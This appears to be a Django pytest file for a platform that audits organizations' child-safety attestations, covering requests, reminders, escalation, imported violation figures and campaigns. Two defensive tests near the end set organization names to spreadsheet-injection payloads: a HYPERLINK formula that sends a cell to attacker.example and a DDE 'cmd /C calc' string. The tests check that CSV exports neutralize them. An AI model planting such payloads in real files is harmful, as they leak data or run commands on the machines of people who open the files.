"""Audits the platform starts: a reviewer asks, the organization is told and answers by
signing, reminders go out before the due date, an overdue request is escalated; campaigns
ask many at once from the safety figures the platform imports."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.actors import Actor
from assessments import workflow
from assessments.errors import NotPermitted
from assessments.models import (
    AuditAction,
    AuditEvent,
    AuditRequest,
    Campaign,
    EnforcementRecommendation,
    Organization,
    PolicyChangeFlag,
    PolicyDocumentVersion,
    RequestKind,
    RequestReminder,
    RequestState,
    ViolationFigure,
)
from platform_audits import platform_requests
from platform_audits.platform_requests import Stage
from tests.conftest import approve_after_review, sign_now, stepped_up
from tests.factories import OrganizationFactory, UserFactory
from tests.test_api import call

pytestmark = pytest.mark.django_db


def in_days(n: int):
    return timezone.localdate() + timedelta(days=n)


def ask(org, reviewer, framework_version, *, due_in=30, **terms):
    return platform_requests.ask(
        org,
        actor=Actor(reviewer),
        kind=terms.pop("kind", RequestKind.ATTESTATION),
        framework_version=framework_version,
        reason=terms.pop("reason", "Your violation rate doubled in October."),
        due_on=in_days(due_in),
        **terms,
    )


def events(action) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=action))


# Asking one organization


def test_a_reviewer_asks_and_the_admins_and_preparers_are_told(
    client, reviewer, draft, admin, preparer, signatory, committed
):
    client.force_login(reviewer)
    with committed():
        response = client.post(
            reverse("ask_organization", args=[draft.pk]),
            {
                "kind": "attestation",
                "framework_version": draft.framework_version_id,
                "reason": "Routine yearly audit of safeguards for minors.",
                "due_on": in_days(30).isoformat(),
            },
        )
    assert response.status_code == 302
    assert response["Location"] == reverse("review_assessment", args=[draft.pk])
    asked = AuditRequest.objects.get()
    assert (asked.organization, asked.state, asked.due_on) == (
        draft.organization,
        RequestState.OPEN,
        in_days(30),
    )
    [event] = events(AuditAction.AUDIT_REQUESTED)
    assert event.organization_id == draft.organization_id
    assert event.details["reason"] == "Routine yearly audit of safeguards for minors."
    [email] = mail.outbox
    assert sorted(email.to) == sorted([admin.email, preparer.email])  # not the signatory
    assert "Routine yearly audit" in email.body
    assert reverse("audit_request", args=[asked.pk]) in email.body
    review = client.get(response["Location"]).text
    assert (
        f'<a href="{reverse("audit_request", args=[asked.pk])}">A first attestation of '
        f"{draft.product.name}</a>" in review
    )
    assert asked.product == draft.product  # asked from its review page: about this product
    assert event.get_action_display() in review  # its history beside it

    client.force_login(preparer)
    home = client.get(reverse("organization", args=[draft.organization_id]))
    assert "The platform asks" in home.text
    assert reverse("audit_request", args=[asked.pk]) in home.text
    overview = client.get(reverse("assessment", args=[draft.pk]))
    assert reverse("audit_request", args=[asked.pk]) in overview.text


def test_the_organizations_first_reading_is_recorded_once(client, reviewer, preparer, org, draft):
    asked = ask(org, reviewer, draft.framework_version)
    client.force_login(reviewer)
    client.get(reverse("audit_request", args=[asked.pk]))
    asked.refresh_from_db()
    assert asked.opened_at is None  # a reviewer reading it is not the organization

    client.force_login(preparer)
    page = client.get(reverse("audit_request", args=[asked.pk]))
    assert page.status_code == 200
    assert "Your violation rate doubled in October." in page.text
    client.get(reverse("audit_request", args=[asked.pk]))
    asked.refresh_from_db()
    assert asked.opened_at is not None
    assert len(events(AuditAction.AUDIT_REQUEST_OPENED)) == 1


@pytest.mark.parametrize(
    ("terms", "problem"),
    [
        ({"kind": "remediation"}, "Choose the questions to remediate."),
        ({"due_on": "2020-01-01"}, "Choose a date in the future."),
        ({"reason": "   "}, "This field is required."),
        ({"due_on": "next week"}, "Enter a valid date."),
    ],
)
def test_a_request_with_missing_terms_is_refused_and_explained(
    client, reviewer, draft, terms, problem
):
    client.force_login(reviewer)
    data = {
        "kind": "attestation",
        "framework_version": draft.framework_version_id,
        "reason": "Audit.",
        "due_on": in_days(10).isoformat(),
    } | terms
    response = client.post(reverse("ask_organization", args=[draft.pk]), data)
    assert response.status_code == 422
    assert problem in response.text
    assert not AuditRequest.objects.exists()


def test_a_remediation_names_the_questions_and_the_assessment(client, reviewer, preparer, draft):
    client.force_login(reviewer)
    form = client.get(reverse("ask_organization", args=[draft.pk])).context["form"]
    groups = dict(form.fields["question_ids"].choices)
    offered = {qid for choices in groups.values() for qid, _ in choices}
    assert list(groups) == ["Gaps"]  # nothing answered yet: every scored question is a gap
    assert "age.method" in offered
    assert "scope.product" not in offered  # asked for information: nothing to remediate
    client.post(
        reverse("ask_organization", args=[draft.pk]),
        {
            "kind": "remediation",
            "question_ids": ["age.method", "moderation.inputs"],
            "framework_version": draft.framework_version_id,
            "reason": "Age assurance relies on self-declaration only.",
            "due_on": in_days(14).isoformat(),
        },
    )
    asked = AuditRequest.objects.get()
    assert (asked.kind, asked.assessment, asked.question_ids) == (
        RequestKind.REMEDIATION,
        draft,
        ["age.method", "moderation.inputs"],
    )
    client.force_login(preparer)
    page = client.get(reverse("audit_request", args=[asked.pk]))
    assert "age.method" in page.text
    assert "How do you establish a user" in page.text  # the question's own words


# Answering: the request closes when the asked-for attestation is signed


def test_signing_the_asked_questionnaire_closes_the_request(
    client, reviewer, complete_draft, preparer, signatory, org, framework_version
):
    asked = ask(org, reviewer, framework_version)
    other = OrganizationFactory()
    elsewhere = ask(other, reviewer, framework_version)
    workflow.submit(complete_draft, actor=Actor(preparer))
    attestation = sign_now(complete_draft, signatory)
    asked.refresh_from_db()
    elsewhere.refresh_from_db()
    assert (asked.state, asked.fulfilled_by) == (RequestState.FULFILLED, attestation)
    assert elsewhere.state == RequestState.OPEN  # another organization's request stands
    [event] = events(AuditAction.AUDIT_REQUEST_FULFILLED)
    assert event.details["attestation"] == attestation.number

    client.force_login(preparer)
    home = client.get(reverse("organization", args=[org.pk]))
    assert "The platform asks" not in home.text
    assert platform_requests.stages([asked])[asked.pk] == Stage.SUBMITTED


def test_a_request_about_one_product_is_answered_only_by_that_products_attestation(
    reviewer, complete_draft, preparer, signatory, admin, org, framework_version
):
    from assessments.products import register_product

    chat = register_product(org, name="Brightpath Teen Chat", actor=Actor(admin))
    about_chat = ask(org, reviewer, framework_version, product=chat)
    about_any = ask(org, reviewer, framework_version)
    workflow.submit(complete_draft, actor=Actor(preparer))
    sign_now(complete_draft, signatory)
    about_chat.refresh_from_db()
    about_any.refresh_from_db()

    assert complete_draft.product != chat
    assert about_chat.state == RequestState.OPEN
    assert about_chat.asked_for == "A first attestation of Brightpath Teen Chat"
    assert about_any.state == RequestState.FULFILLED


def test_an_attestation_on_an_older_version_does_not_answer_a_newer_one(
    reviewer, org, complete_draft, preparer, signatory, tmp_path
):
    from questionnaires.frameworks.loader import publish
    from tests.test_frameworks import next_version

    newer, _ = publish(next_version(tmp_path))
    asked = ask(org, reviewer, newer)
    workflow.submit(complete_draft, actor=Actor(preparer))
    sign_now(complete_draft, signatory)
    asked.refresh_from_db()
    assert asked.state == RequestState.OPEN


# Reminders


def test_reminders_go_out_before_the_due_date_once_each(
    reviewer, org, admin, draft, committed, settings
):
    settings.REQUEST_REMINDER_DAYS = [14, 3]
    asked = ask(org, reviewer, draft.framework_version, due_in=20)
    mail.outbox.clear()
    with committed():
        assert platform_requests.send_reminders(today=in_days(5)) == 0  # 15 days left
        assert platform_requests.send_reminders(today=in_days(6)) == 1  # 14 days left
        assert platform_requests.send_reminders(today=in_days(7)) == 0  # already sent
        assert platform_requests.send_reminders(today=in_days(17)) == 1  # 3 days left
        assert platform_requests.send_reminders(today=in_days(18)) == 0
    assert sorted(r.days_before for r in RequestReminder.objects.filter(request=asked)) == [3, 14]
    assert len(events(AuditAction.AUDIT_REQUEST_REMINDED)) == 2
    assert [m.subject for m in mail.outbox] == [
        f"Reminder: a first attestation is due by {asked.due_on:%-d %B %Y}"
    ] * 2
    assert admin.email in mail.outbox[0].to


def test_a_request_made_close_to_its_due_date_gets_only_the_nearer_reminder(
    reviewer, org, draft, settings
):
    settings.REQUEST_REMINDER_DAYS = [14, 3]
    asked = ask(org, reviewer, draft.framework_version, due_in=5)
    assert platform_requests.send_reminders(today=in_days(1)) == 0
    assert platform_requests.send_reminders(today=in_days(2)) == 1
    assert [r.days_before for r in asked.reminders.all()] == [3]


def test_an_answered_request_is_not_reminded(reviewer, org, draft, settings):
    settings.REQUEST_REMINDER_DAYS = [3]
    asked = ask(org, reviewer, draft.framework_version, due_in=10)
    AuditRequest.objects.filter(pk=asked.pk).update(state=RequestState.FULFILLED)
    assert platform_requests.send_reminders(today=in_days(8)) == 0


# Overdue and escalation


def overdue(asked):
    AuditRequest.objects.filter(pk=asked.pk).update(due_on=in_days(-2))
    asked.refresh_from_db()
    return asked


def test_an_overdue_request_is_flagged_on_the_queue(client, reviewer, signed, org):
    asked = overdue(ask(org, reviewer, signed.assessment.framework_version, due_in=10))
    client.force_login(reviewer)
    queue = client.get(reverse("dashboard"))
    assert queue.context["requests_overdue"] == 1
    assert "Request overdue" in queue.text
    listing = client.get(reverse("audit_requests") + "?show=overdue")
    assert [r.pk for r in listing.context["rows"]] == [asked.pk]


@pytest.mark.parametrize("show", ["open", "overdue", "all"])
def test_the_list_of_requests_costs_the_same_queries_for_one_or_many(client, reviewer, draft, show):
    def requests_page():
        client.force_login(reviewer)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse("audit_requests"), {"show": show})
        assert response.status_code == 200
        # A list names each questionnaire; it never reads (and parses) the whole definition.
        assert not any('"definition"' in q["sql"] for q in queries.captured_queries)
        return len(response.context["rows"]), len(queries)

    overdue(ask(OrganizationFactory(), reviewer, draft.framework_version))
    one = requests_page()
    for _ in range(4):
        overdue(ask(OrganizationFactory(), reviewer, draft.framework_version))
    five = requests_page()
    assert (one[0], five[0]) == (1, 5)
    assert one[1] == five[1]


def test_the_reviewer_records_an_enforcement_recommendation_on_an_overdue_request(
    client, reviewer, org, draft
):
    asked = overdue(ask(org, reviewer, draft.framework_version))
    client.force_login(reviewer)
    page = client.get(reverse("audit_request", args=[asked.pk]))
    assert "record an enforcement recommendation" in page.text
    response = client.post(
        reverse("escalate_request", args=[asked.pk]),
        {"level": "recommend_suspension", "rationale": "Two reminders went unanswered."},
    )
    assert response.status_code == 302
    asked.refresh_from_db()
    assert asked.state == RequestState.ESCALATED
    recommendation = EnforcementRecommendation.objects.get()
    assert (recommendation.level, recommendation.recommended_by) == (
        "recommend_suspension",
        reviewer,
    )
    [event] = events(AuditAction.ENFORCEMENT_RECOMMENDED)
    assert event.details["rationale"] == "Two reminders went unanswered."
    page = client.get(reverse("audit_request", args=[asked.pk]))
    assert "Recommend suspension" in page.text
    assert "Two reminders went unanswered." in page.text


def test_a_request_not_yet_due_cannot_be_escalated(client, reviewer, org, draft):
    asked = ask(org, reviewer, draft.framework_version)
    client.force_login(reviewer)
    assert (
        "record an enforcement recommendation"
        not in client.get(reverse("audit_request", args=[asked.pk])).text
    )
    response = client.post(
        reverse("escalate_request", args=[asked.pk]),
        {"level": "warn", "rationale": "Too early."},
        follow=True,
    )
    assert "not overdue" in response.text
    assert not EnforcementRecommendation.objects.exists()
    assert not events(AuditAction.ENFORCEMENT_RECOMMENDED)


def test_an_escalation_without_a_rationale_records_nothing(client, reviewer, org, draft):
    asked = overdue(ask(org, reviewer, draft.framework_version))
    client.force_login(reviewer)
    response = client.post(
        reverse("escalate_request", args=[asked.pk]), {"level": "warn"}, follow=True
    )
    assert "give its rationale" in response.text
    assert not EnforcementRecommendation.objects.exists()


# Inviting an organization that has no account


def invitation_link(email) -> str:
    return re.search(r"http://\S+/requests/invited/\S+/", email.body).group(0)


def test_an_invited_organization_registers_and_the_request_becomes_its_own(
    client, reviewer, framework_version, committed
):
    client.force_login(reviewer)
    with committed():
        client.post(
            reverse("invite_organization"),
            {
                "legal_name": "Homework Helper Inc",
                "email": "Founder@Homework.example",
                "framework_version": framework_version.pk,
                "reason": "Your app reaches pupils through our API.",
                "due_on": in_days(45).isoformat(),
            },
        )
    asked = AuditRequest.objects.get()
    assert (asked.organization, asked.invited_email) == (None, "founder@homework.example")
    [email] = mail.outbox
    assert email.to == ["founder@homework.example"]
    link = invitation_link(email)

    client.logout()
    page = client.get(link)
    assert page.status_code == 200
    assert "Your app reaches pupils through our API." in page.text
    response = client.post(
        link,
        {
            "website": "https://homework.example",
            "full_name": "Fran Founder",
            "password1": "a long and unusual passphrase",
            "password2": "a long and unusual passphrase",
        },
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("audit_request", args=[asked.pk])
    asked.refresh_from_db()
    organization = Organization.objects.get(legal_name="Homework Helper Inc")
    assert asked.organization == organization
    assert organization.memberships.get().user.email == "founder@homework.example"
    assert len(events(AuditAction.AUDIT_REQUEST_CLAIMED)) == 1
    assert client.get(response["Location"]).status_code == 200

    client.logout()
    again = client.get(link)
    assert again.status_code == 404
    assert "has been used already" in again.text


def test_an_invitation_to_an_address_with_an_account_is_refused_clearly(
    client, reviewer, framework_version
):
    UserFactory(email="taken@example.org")
    asked = platform_requests.invite(
        actor=Actor(reviewer),
        email="taken@example.org",
        legal_name="Taken Ltd",
        framework_version=framework_version,
        reason="Audit.",
        due_on=in_days(10),
    )
    response = client.post(
        reverse("audit_request_invitation", args=[platform_requests.invitation_token(asked)]),
        {
            "website": "https://taken.example",
            "full_name": "T",
            "password1": "a long and unusual passphrase",
            "password2": "a long and unusual passphrase",
        },
    )
    assert response.status_code == 409
    assert "log in instead" in response.text
    asked.refresh_from_db()
    assert asked.organization is None


def test_a_forged_invitation_link_is_not_found(client):
    response = client.get(reverse("audit_request_invitation", args=["forged:token"]))
    assert response.status_code == 404


# Safety figures


def figures_file(
    rows,
    header=("organization_id", "month", "requests", "flagged_requests", "confirmed_violations"),
):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return SimpleUploadedFile("figures.csv", out.getvalue().encode(), content_type="text/csv")


def upload(client, rows, **kwargs):
    return client.post(reverse("violation_figures"), {"file": figures_file(rows, **kwargs)})


def test_a_file_with_bad_rows_is_refused_whole_and_every_bad_row_is_named(
    client, reviewer, org, other_org
):
    client.force_login(reviewer)
    response = upload(
        client,
        [
            [org.pk, "2026-10", 100000, 900, 40],
            [other_org.pk, "October", 100, 1, 0],
            ["not-an-id", "2026-10", 1, 0, 0],
            [org.pk, "2026-11", 10, 20, 0],
            [org.pk, "2026-09", -5, 0, 0],
            [org.pk, "2026-08", 10**20, 0, 0],
            [org.pk, "2026-10", 100000, 900, 40],
            ["nobody", "last month", 5, "many", 9],  # every problem of a row, not the first
        ],
    )
    assert response.status_code == 422
    problems = {r.line: r.problem for r in response.context["result"].rejected}
    assert problems == {
        3: "month 'October' is not a month like 2026-11",
        4: "organization_id 'not-an-id' is not an id",
        5: "flagged_requests is more than requests",
        6: "requests '-5' is not a whole number from 0 to 10^15",
        7: f"requests '{10**20}' is not a whole number from 0 to 10^15",
        8: "the same organization and month appear twice",
        9: "organization_id 'nobody' is not an id; month 'last month' is not a month like "
        "2026-11; flagged_requests 'many' is not a whole number from 0 to 10^15; "
        "confirmed_violations is more than requests",
    }
    assert "Nothing was imported: 7 of 8 rows are wrong" in response.text
    assert not ViolationFigure.objects.exists()
    assert not events(AuditAction.VIOLATION_FIGURES_IMPORTED)


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"\xff\xfe\x00garbage", "is not UTF-8 text"),
        (b"org,month\n1,2\n", "The first line must name the columns"),
        (b"organization_id,month,requests,flagged_requests,confirmed_violations\n", "no rows"),
    ],
)
def test_an_unreadable_file_is_explained(client, reviewer, content, problem):
    client.force_login(reviewer)
    response = client.post(
        reverse("violation_figures"), {"file": SimpleUploadedFile("f.csv", content)}
    )
    assert response.status_code == 422
    assert problem in response.text


def test_importing_the_same_file_twice_changes_nothing(client, reviewer, org, other_org):
    client.force_login(reviewer)
    rows = [
        [org.pk, "2026-10", 100000, 900, 40],
        [org.pk, "2026-11", 100000, 1200, 90],
        [other_org.pk, "2026-11", 50000, 10, 1],
    ]
    first = upload(client, rows)
    assert first.status_code == 302
    stored = list(ViolationFigure.objects.values())
    org.refresh_from_db()
    assert org.violation_rate == 9.0  # the latest month: 90 per 100,000
    [event] = events(AuditAction.VIOLATION_FIGURES_IMPORTED)
    assert (event.details["created"], event.details["changed"]) == (3, 0)

    again = upload(client, rows)
    assert again.status_code == 302
    assert "Nothing changed: all 3 rows match" in client.get(again["Location"]).text
    assert list(ViolationFigure.objects.values()) == stored
    assert len(events(AuditAction.VIOLATION_FIGURES_IMPORTED)) == 1

    upload(client, [[org.pk, "2026-11", 100000, 1200, 20]])
    org.refresh_from_db()
    assert org.violation_rate == 2.0
    assert events(AuditAction.VIOLATION_FIGURES_IMPORTED)[-1].details["changed"] == 1


def test_the_template_lists_every_organization_and_imports_once_filled(
    client, reviewer, org, other_org
):
    client.force_login(reviewer)
    template = client.get(reverse("violation_figures_template")).content.decode()
    rows = list(csv.DictReader(io.StringIO(template)))
    assert {r["organization_id"] for r in rows} == {str(org.pk), str(other_org.pk)}
    for row in rows:
        row |= {"month": "2026-11", "requests": "1000", "flagged_requests": "3"}
        row["confirmed_violations"] = "1"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=rows[0].keys())
    writer.writeheader()
    writer.writerows(rows)
    response = client.post(
        reverse("violation_figures"), {"file": SimpleUploadedFile("t.csv", out.getvalue().encode())}
    )
    assert response.status_code == 302
    assert ViolationFigure.objects.count() == 2


def test_the_review_page_shows_the_series_and_the_queue_sorts_and_filters_by_it(
    client, reviewer, signed, org
):
    from platform_audits.violation_figures import import_figures

    other = OrganizationFactory(legal_name="Aardvark Apps")
    content = (
        "organization_id,month,requests,flagged_requests,confirmed_violations\n"
        f"{org.pk},2026-10,100000,900,40\n{org.pk},2026-11,100000,1200,90\n"
        f"{other.pk},2026-11,100000,10,1\n"
    ).encode()
    import_figures(content, actor=Actor(reviewer), filename="f.csv")
    client.force_login(reviewer)
    page = client.get(reverse("review_assessment", args=[signed.assessment.pk]))
    assert [(f.month.month, f.high) for f in page.context["figures"]] == [
        (10, False),
        (11, True),
    ]
    assert "9.00" in page.text
    high_only = client.get(reverse("dashboard") + "?high_violations=on&status=all")
    assert [a.organization for a, *_ in high_only.context["rows"]] == [org]
    assert (
        client.get(
            reverse("dashboard") + "?high_violations=on&status=all&sort=violations"
        ).status_code
        == 200
    )


# Campaigns


@pytest.fixture
def figures(reviewer, org, other_org):
    from platform_audits.violation_figures import import_figures

    quiet = OrganizationFactory(legal_name="Quiet Quizzes")
    content = (
        "organization_id,month,requests,flagged_requests,confirmed_violations\n"
        f"{org.pk},2026-11,100000,1200,90\n{other_org.pk},2026-11,100000,800,60\n"
        f"{quiet.pk},2026-11,100000,10,1\n"
    ).encode()
    import_figures(content, actor=Actor(reviewer), filename="f.csv")
    return quiet


def campaign_terms(framework_version, **more):
    return {
        "name": "High violation rate, November",
        "violation_rate_above": "5",
        "framework_version": framework_version.pk,
        "reason": "Your confirmed violations are above the platform's threshold.",
        "due_on": in_days(30).isoformat(),
    } | more


def test_a_campaign_is_previewed_then_sent_to_whom_the_selection_finds(
    client, reviewer, framework_version, figures, org, other_org, committed
):
    already = ask(other_org, reviewer, framework_version)
    client.force_login(reviewer)
    preview = client.post(reverse("campaign_new"), campaign_terms(framework_version, preview="1"))
    assert preview.status_code == 200
    assert [(c.organization, c.already_asked) for c in preview.context["candidates"]] == [
        (org, False),
        (other_org, True),
    ]
    assert "Quiet Quizzes" not in preview.text
    assert not Campaign.objects.exists()

    with committed():
        sent = client.post(reverse("campaign_new"), campaign_terms(framework_version, send="1"))
    campaign = Campaign.objects.get()
    assert sent["Location"] == reverse("campaign", args=[campaign.pk])
    assert [r.organization for r in campaign.requests.all()] == [org]
    assert AuditRequest.objects.filter(organization=other_org).get() == already
    [event] = events(AuditAction.CAMPAIGN_LAUNCHED)
    assert event.details["organizations"] == 1

    page = client.get(sent["Location"])
    assert dict(page.context["progress"].counts)[Stage.ASKED] == 1
    assert "<svg" in page.text
    exported = client.get(reverse("campaign_csv", args=[campaign.pk])).content.decode()
    assert list(csv.reader(io.StringIO(exported)))[1][:2] == [org.legal_name, "asked"]


def test_a_campaign_without_a_criterion_or_anyone_to_ask_is_refused(
    client, reviewer, framework_version, figures
):
    client.force_login(reviewer)
    nothing = campaign_terms(framework_version, violation_rate_above="", send="1")
    response = client.post(reverse("campaign_new"), nothing)
    assert response.status_code == 422
    assert "Choose at least one criterion" in response.text
    nobody = campaign_terms(framework_version, violation_rate_above="500", send="1")
    response = client.post(reverse("campaign_new"), nobody)
    assert response.status_code == 422
    assert "finds nobody" in response.text
    assert not Campaign.objects.exists()
    assert not AuditRequest.objects.exists()


def test_campaign_progress_follows_each_request(
    reviewer,
    org,
    other_org,
    outsider,
    figures,
    complete_draft,
    preparer,
    signatory,
    framework_version,
):
    from platform_audits.campaigns import Selection, launch, progress

    campaign = launch(
        actor=Actor(reviewer),
        name="November",
        selection=Selection(violation_rate_above=5),
        framework_version=framework_version,
        reason="Above threshold.",
        due_on=in_days(30),
    )
    mine = campaign.requests.get(organization=org)
    theirs = campaign.requests.get(organization=other_org)
    platform_requests.mark_opened(theirs, actor=Actor(outsider))
    assert dict(progress(campaign).counts)[Stage.IN_PROGRESS] == 1  # org has a draft open
    assert dict(progress(campaign).counts)[Stage.OPENED] == 1

    workflow.submit(complete_draft, actor=Actor(preparer))
    sign_now(complete_draft, signatory)
    approve_after_review(complete_draft, reviewer, "Evidenced.")
    overdue(theirs)
    counts = dict(progress(campaign).counts)
    assert (counts[Stage.APPROVED], counts[Stage.OVERDUE]) == (1, 1)
    platform_requests.escalate(theirs, actor=Actor(reviewer), level="warn", rationale="Late.")
    counts = dict(progress(campaign).counts)
    assert (counts[Stage.ESCALATED], counts[Stage.OVERDUE]) == (1, 0)
    mine.refresh_from_db()
    assert mine.state == RequestState.FULFILLED


def test_campaigns_select_by_risk_expiry_and_changed_policy(reviewer, approved, org, other_org):
    from platform_audits.campaigns import Selection, select

    expiring = Selection(expires_within_days=400)
    assert list(select(expiring)) == [org]
    assert list(select(Selection(expires_within_days=10))) == []
    tier = approved.assessment.attested_risk_tier
    assert (org in select(Selection(high_risk=True))) == (tier == "high")
    assert list(select(Selection(cited_policy_changed=True))) == []
    document = PolicyDocumentVersion.objects.create(
        source_id="guidelines",
        title="Guidelines",
        publisher="The provider",
        url="https://policy.example/guidelines",
        effective=timezone.localdate(),
        sections=[],
    )
    PolicyChangeFlag.objects.create(
        attestation=approved,
        document=document,
        sections=["Age assurance"],
        question_ids=["age.method"],
        due_on=in_days(30),
    )
    assert list(select(Selection(cited_policy_changed=True, expires_within_days=400))) == [org]


def test_figures_come_through_the_api_with_the_same_checks(client, reviewer, org, admin):
    from assessments.models import TokenRole
    from integrations.api_tokens import create_token

    key = create_token(
        organization=None,
        name="figures",
        role=TokenRole.REVIEWER,
        days=5,
        actor=Actor(reviewer),
        proof=stepped_up(reviewer),
    )[1]
    org_key = create_token(
        organization=org,
        name="org",
        role=TokenRole.ADMIN,
        days=5,
        actor=Actor(admin),
        proof=stepped_up(admin),
    )[1]
    url = reverse("api_violation_figures")
    row = {
        "organization_id": str(org.pk),
        "month": "2026-11",
        "requests": 100000,
        "flagged_requests": 1200,
        "confirmed_violations": 90,
    }

    def post(body, token=key):
        return call(client, "post", url, token, body)

    refused = post({"rows": [row, row | {"flagged_requests": 100001}]})
    assert refused.status_code == 400
    assert refused.json()["error"]["fields"] == {
        "rows[1]": ["flagged_requests is more than requests"]
    }
    assert not ViolationFigure.objects.exists()
    assert post({"rows": [row]}, token=org_key).status_code == 403

    first = post({"rows": [row]})
    assert first.json() == {"rows": 1, "created": 1, "changed": 0, "unchanged": 0}
    again = post({"rows": [row]})
    assert again.json() == {"rows": 1, "created": 0, "changed": 0, "unchanged": 1}
    assert len(events(AuditAction.VIOLATION_FIGURES_IMPORTED)) == 1
    org.refresh_from_db()
    assert org.violation_rate == 9.0


def test_what_is_asked_says_first_renewed_or_newer_version(
    reviewer, org, approved, tmp_path, other_org
):
    from questionnaires.frameworks.loader import publish
    from tests.test_frameworks import next_version

    version = approved.assessment.framework_version
    assert ask(other_org, reviewer, version).asked_for == "A first attestation"
    assert ask(org, reviewer, version).asked_for == "A renewed attestation"
    newer, _ = publish(next_version(tmp_path))
    assert ask(org, reviewer, newer).asked_for == "An attestation on a newer questionnaire version"


HOSTILE = ("=", "+", "-", "@", "\t", "\r")


def test_no_campaign_cell_runs_as_a_formula_whatever_organizations_are_called(
    client, reviewer, org, other_org, figures, framework_version
):
    """Organizations name themselves: a name made to run in the reviewer's spreadsheet reaches
    the campaign CSV as text, as it does the queue CSV and the workbook."""
    from platform_audits.campaigns import Selection, launch

    org.legal_name = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    org.save(update_fields=["legal_name"])
    other_org.legal_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    other_org.save(update_fields=["legal_name"])
    campaign = launch(
        actor=Actor(reviewer),
        name="+Hostile campaign",
        selection=Selection(violation_rate_above=5),
        framework_version=framework_version,
        reason="-Above threshold.",
        due_on=in_days(30),
    )
    client.force_login(reviewer)

    response = client.get(reverse("campaign_csv", args=[campaign.pk]))

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    names = [c for c in cells if "HYPERLINK" in c or "SUM(" in c]
    assert len(names) == 2
    assert not [c for c in cells if c.startswith(HOSTILE)]


def test_no_cell_of_the_figures_template_runs_as_a_formula(client, reviewer, org, other_org):
    """The figures template lists organizations by the names they gave themselves: a reviewer
    opening it in a spreadsheet reads those names, never runs them."""
    org.legal_name = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    org.save(update_fields=["legal_name"])
    other_org.legal_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    other_org.save(update_fields=["legal_name"])
    client.force_login(reviewer)

    response = client.get(reverse("violation_figures_template"))

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert len([c for c in cells if "HYPERLINK" in c or "SUM(" in c]) == 2
    assert not [c for c in cells if c.startswith(HOSTILE)]


def test_only_a_platform_reviewer_imports_safety_figures_whoever_calls(org, admin, signatory):
    """The figures flag organizations for campaigns: a member of an organization, through a
    command or any other caller of the service, cannot write its own or anyone's."""
    from platform_audits.violation_figures import import_figures, import_rows

    row = {
        "organization_id": str(org.pk),
        "month": "2026-11",
        "requests": 100000,
        "flagged_requests": 0,
        "confirmed_violations": 0,
    }
    content = ",".join(row) + "\n" + ",".join(str(v) for v in row.values()) + "\n"
    for person in (admin, signatory):
        with pytest.raises(NotPermitted):
            import_figures(content.encode(), actor=Actor(person), filename="f.csv")
        with pytest.raises(NotPermitted):
            import_rows([row], actor=Actor(person))
    assert not ViolationFigure.objects.exists()
    assert not AuditEvent.objects.filter(action=AuditAction.VIOLATION_FIGURES_IMPORTED).exists()


def test_only_the_organizations_own_reading_counts_as_opening_its_request(
    org, reviewer, preparer, outsider, framework_version
):
    """Campaigns count who opened their request: a reviewer reading it is not the
    organization reading it, and someone of another organization cannot mark it read."""
    asked = ask(org, reviewer, framework_version)

    platform_requests.mark_opened(asked, actor=Actor(reviewer))
    with pytest.raises(NotPermitted):
        platform_requests.mark_opened(asked, actor=Actor(outsider))
    asked.refresh_from_db()
    assert asked.opened_at is None

    platform_requests.mark_opened(asked, actor=Actor(preparer))
    asked.refresh_from_db()
    assert asked.opened_at is not None
    assert [e.actor_email for e in events(AuditAction.AUDIT_REQUEST_OPENED)] == [preparer.email]
